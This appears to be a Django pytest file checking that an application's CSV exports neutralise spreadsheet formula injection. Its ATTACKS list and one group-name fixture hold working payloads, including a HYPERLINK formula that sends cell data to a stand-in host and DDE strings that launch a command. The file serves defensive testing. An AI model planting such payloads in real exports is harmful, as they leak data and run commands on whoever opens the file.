"""CSV formula injection: every CSV the application writes escapes cells a spreadsheet would run."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

from django.conf import settings
from django.urls import reverse

from accounts.models import CommunityGroup
from nicp.csv import csv_response, safe_cell, safe_csv_writer
from proposals import services
from proposals.models import Proposal
from tests.factories import UserFactory, complete_proposal, make_open_call

ATTACKS = ["=HYPERLINK(\"http://malo.example/?\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tfoo", "\rbar"]


def test_the_writer_escapes_formulas_and_keeps_numbers_numbers():
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow([*ATTACKS, "Parque La Ermita", "", None])
    writer.writerow([Decimal("-1500.00"), -3, 2.5, datetime.date(2027, 1, 31), True])
    first, second = csv.reader(io.StringIO(out.getvalue()))
    assert first[:len(ATTACKS)] == ["'" + attack for attack in ATTACKS]
    assert first[len(ATTACKS):] == ["Parque La Ermita", "", ""]
    assert second == ["-1500.00", "-3", "2.5", "2027-01-31", "True"]
    assert safe_cell(datetime.datetime(2027, 1, 31, 10, 0, tzinfo=datetime.UTC)) == "2027-01-31T10:00:00+00:00"


def test_the_small_response_escapes_too():
    response = csv_response("x.csv", ["titulo"], [["=1+1"]])
    assert response.content.decode("utf-8-sig").splitlines() == ["titulo", "'=1+1"]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_review_queue_csv_escapes_titles_and_group_names(client, group, applicant):
    proposal = complete_proposal(services.proposal_create(actor=applicant, call=make_open_call(), group=group,
                                                          title="Parque"), applicant)
    services.proposal_transition(actor=applicant, proposal_id=proposal.pk, action="submit")
    Proposal.objects.filter(pk=proposal.pk).update(title=ATTACKS[0])
    CommunityGroup.objects.filter(pk=group.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(UserFactory(roles=["coordinator"]))
    response = client.get(reverse("proposals:review_queue_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    column = {name: index for index, name in enumerate(rows[0])}
    assert rows[1][column["titulo"]] == "'" + ATTACKS[0]
    assert rows[1][column["grupo"]] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert response["X-Content-Type-Options"] == "nosniff"


def test_no_csv_writer_outside_the_kernel():
    """Every CSV goes through nicp/csv.py: a plain csv.writer or DictWriter elsewhere is a way around it."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {"tests", ".venv", "var", "node_modules"} or relative == Path("nicp/csv.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text):
            offenders.append(str(relative))
    assert offenders == [], "use nicp.csv (safe_csv_writer, csv_response, csv_streaming_response)"
